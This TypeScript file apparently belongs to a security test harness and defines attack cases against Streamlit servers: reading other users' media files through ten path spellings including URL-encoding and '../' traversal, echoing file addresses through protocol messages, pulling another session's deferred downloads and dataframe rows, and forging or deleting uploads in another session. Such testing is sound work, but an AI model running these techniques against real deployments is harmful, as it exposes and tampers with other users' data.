import { type Attack, attack } from '../attack.ts'
import { type Case, minorOf } from '../case.ts'
import {
  dataframeChunk,
  deferredFile,
  deferredOperation,
  fileUrlsRequest,
  rerun,
  typed
} from '../client/back-msg.ts'
import { deferredOf, mediaOf, messageHashesOf, sourcesOf, widgetOf } from '../client/forward-msg.ts'
import type { AttackSession } from '../client/session.ts'
import type { AttackEnvironment } from '../environment.ts'
import { lootOf } from './fragments.ts'
import { jump } from './jump.ts'

const created = 'HTTP/1.1 204'

export const lacksDeferred: Attack['lacks'] = ({ version }) =>
  minorOf(version) < 52 ? 'no deferred downloads before 1.52' : null

const lacksLazy: Attack['lacks'] = ({ version }) =>
  minorOf(version) < 61 ? 'no lazy dataframes before 1.61' : null

/** The message by which this version asks for a deferred download. */
export function askDeferred(
  { version }: AttackEnvironment,
  fileId: string,
  sessionId: string
): Buffer {
  return minorOf(version) < 58
    ? deferredFile(fileId, sessionId)
    : deferredOperation(fileId, sessionId)
}

/** Other ways to write a path that some server may take for the same. */
function spellings(path: string): readonly string[] {
  return [
    path,
    path.replace(/\.[a-z0-9]+$/, ''),
    path.replace('/media', '/%6dedia'),
    path.replace('/media', '//media'),
    path.replace('/media', '/MEDIA'),
    path.replace('/media/', '/media%2f'),
    path.replace('/media', '/open/../media'),
    path.replace('/media', '/open/media'),
    path.replace('/media', '/static/../media'),
    `http://localhost${path}`
  ]
}

/**
 * Finding S2: whoever guesses the address of a file has Streamlit send it back, in an answer that
 * gives nobody a file, and then asks for it.
 */
function echoed(
  where: string,
  echo: (session: AttackSession, path: string) => Promise<Buffer>
): Case {
  return attack({
    title: `S2: another person's media files, once their addresses were echoed ${where}`,
    prepare: async (client) => {
      const paths = mediaOf((await lootOf(client)).frames)
      const session = await client.enter('attacker')
      for (const path of paths) session.socket.send(await echo(session, path))
      await session.untilQuiet()
      return async () => ({
        received: await Promise.all(paths.map((path) => client.http('attacker', path))),
        session
      })
    }
  })
}

const echoes: readonly Case[] = [
  echoed('by file_urls_request', async ({ id }, path) => fileUrlsRequest(path, id)),
  echoed('by backend_operation_request', async ({ id }, path) => deferredOperation('x', id, path)),
  echoed('by a text that the page writes', async (session, path) => {
    const page = await session.ask({ name: 'open' })
    const widgets = [typed(widgetOf(page, 'open-echo'), path)]
    return rerun({ hash: session.hashOf('open'), widgets })
  })
]

export const fileAttacks: readonly Case[] = [
  ...echoes,
  attack({
    title: "another person's media files and downloads, in ten spellings",
    prepare: async (client) => {
      const { frames } = await lootOf(client)
      const paths = mediaOf(frames).flatMap(spellings)
      return async () => ({
        received: await Promise.all(paths.map((path) => client.http('attacker', path)))
      })
    }
  }),
  attack({
    title: 'own media files and downloads, after the right to their page was lost',
    prepare: async (client) => {
      const paths = mediaOf((await lootOf(client)).frames)
      return async () => ({
        received: await Promise.all(paths.map((path) => client.http('demoted', path)))
      })
    }
  }),
  attack({
    title: "another person's deferred download",
    lacks: lacksDeferred,
    prepare: async (client, environment) => {
      const { frames } = await lootOf(client)
      const [fileId = ''] = deferredOf(frames)
      const session = await client.enter('attacker')
      return async () => {
        const answer = await session.probe(askDeferred(environment, fileId, session.id))
        const files = mediaOf(answer).map((path) => client.http('attacker', path))
        return { received: [...answer, ...(await Promise.all(files))], session }
      }
    }
  }),
  attack({
    title: 'an own deferred download, after the right to its page was lost',
    lacks: lacksDeferred,
    prepare: async (client, environment) => {
      const { session, frames } = await lootOf(client)
      const [fileId = ''] = deferredOf(frames)
      await client.http('demoted', '/_stcore/health')
      return async () => {
        const answer = await session.probe(askDeferred(environment, fileId, session.id))
        const files = mediaOf(answer).map((path) => client.http('demoted', path))
        return { received: [...answer, ...(await Promise.all(files))], session }
      }
    }
  }),
  attack({
    title: "rows of another person's lazy dataframe",
    lacks: (environment) =>
      lacksLazy(environment) ?? 'Streamlit keeps lazy dataframes for each session',
    prepare: async (client) => {
      const { frames } = await lootOf(client)
      const [sourceId = ''] = sourcesOf(frames)
      const session = await client.enter('attacker')
      return async () => ({
        received: await session.probe(dataframeChunk(sourceId, session.id, 1_100)),
        session
      })
    }
  }),
  attack({
    title: 'rows of an own lazy dataframe, after the right to its page was lost',
    lacks: lacksLazy,
    prepare: async (client) => {
      const { session, frames } = await lootOf(client)
      const [sourceId = ''] = sourcesOf(frames)
      await client.http('demoted', '/_stcore/health')
      return async () => ({
        received: await session.probe(dataframeChunk(sourceId, session.id, 1_100)),
        session
      })
    }
  }),
  attack({
    title: 'rows of the lazy dataframe of a page that the app has started by st.switch_page',
    lacks: lacksLazy,
    prepare: async (client, environment) => {
      const { frames } = await lootOf(client)
      const session = await client.enter('attacker')
      const own = sourcesOf(await jump(session, environment))
      const ids = own.length > 0 ? own : sourcesOf(frames)
      return async () => {
        const received: Buffer[] = []
        for (const id of ids) {
          received.push(...(await session.probe(dataframeChunk(id, session.id, 1_100))))
        }
        return { received }
      }
    }
  }),
  attack({
    title: "a file put into another person's session",
    sign: created,
    prepare: async (client) => {
      const { session } = await lootOf(client)
      const urls = await session.uploadUrls()
      return async () => ({ received: [await client.upload('attacker', urls, 'forged')] })
    }
  }),
  attack({
    title: "a file deleted from another person's session",
    sign: created,
    prepare: async (client) => {
      const { session } = await lootOf(client)
      const urls = await session.uploadUrls()
      await client.upload('victim', urls, 'kept')
      const headers = await client.xsrf('attacker')
      const request = { method: 'DELETE', headers }
      return async () => ({
        received: [await client.http('attacker', urls.deleteUrl, request)]
      })
    }
  }),
  attack({
    title: 'a cached message of another person, by its hash',
    lacks: ({ version }) => (minorOf(version) < 45 ? null : 'no cache of messages since 1.45'),
    prepare: async (client) => {
      const { frames } = await lootOf(client)
      const paths = messageHashesOf(frames).map((hash) => `/_stcore/message?hash=${hash}`)
      return async () => ({
        received: await Promise.all(paths.map((path) => client.http('attacker', path)))
      })
    }
  })
]
